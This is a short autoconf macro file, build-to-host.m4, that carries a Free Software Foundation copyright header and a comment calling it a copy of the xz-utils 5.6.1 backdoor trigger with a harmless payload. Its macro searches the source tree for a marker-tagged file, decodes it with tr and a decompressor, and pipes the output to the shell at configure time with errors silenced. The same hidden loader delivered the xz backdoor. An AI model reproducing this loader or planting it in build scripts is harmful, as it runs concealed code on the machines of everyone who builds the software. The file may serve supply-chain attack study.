# build-to-host.m4 serial 30
dnl Copyright (C) 2023-2024 Free Software Foundation, Inc.
dnl This file is free software; the Free Software Foundation
dnl gives unlimited permission to copy and/or distribute it,
dnl with or without modifications, as long as this notice is preserved.

dnl A relabelled copy in the style of the xz-utils 5.6.1 trigger, with a harmless payload.
AC_DEFUN([gl_BUILD_TO_HOST_INIT],
[
  if test -z "$gl_am_configmake"; then
    gl_am_configmake=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`
  fi
  gl_path_map='tr "\t \-_" " \t_\-"'
  gl_localedir_prefix=`echo $gl_am_configmake | sed "s/.*\.//g"`
  AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_gt | $SHELL 2>/dev/null], [gl_config_gt="eval \$gl_[$1]_config"])
  gl_[$1]_config='sed \"r\n\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'
])
